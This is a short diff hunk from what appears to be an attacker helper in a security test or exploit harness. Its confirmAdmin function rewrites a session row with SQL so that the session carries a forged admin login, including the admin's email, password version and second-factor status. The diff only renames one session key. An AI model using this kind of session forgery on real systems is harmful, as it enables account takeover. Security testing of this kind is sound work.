@@ -13,7 +13,7 @@ export async function confirmAdmin({ portal }: Attacker): Promise<string> {
        'at', (extract(epoch from now()) * 1000)::bigint,
        'login', jsonb_build_object(
          'email', (select email from users where is_admin = 1),
-         'passwordVersion', sess ->> 'loginMark',
+         'passwordVersion', sess ->> 'passwordVersion',
          'hasSecondFactor', exists (select from second_factors f join users u on u.id = f.id
            where u.is_admin = 1 and f.confirmed_at is not null)))))::json
      where sid = $1 returning sid`,
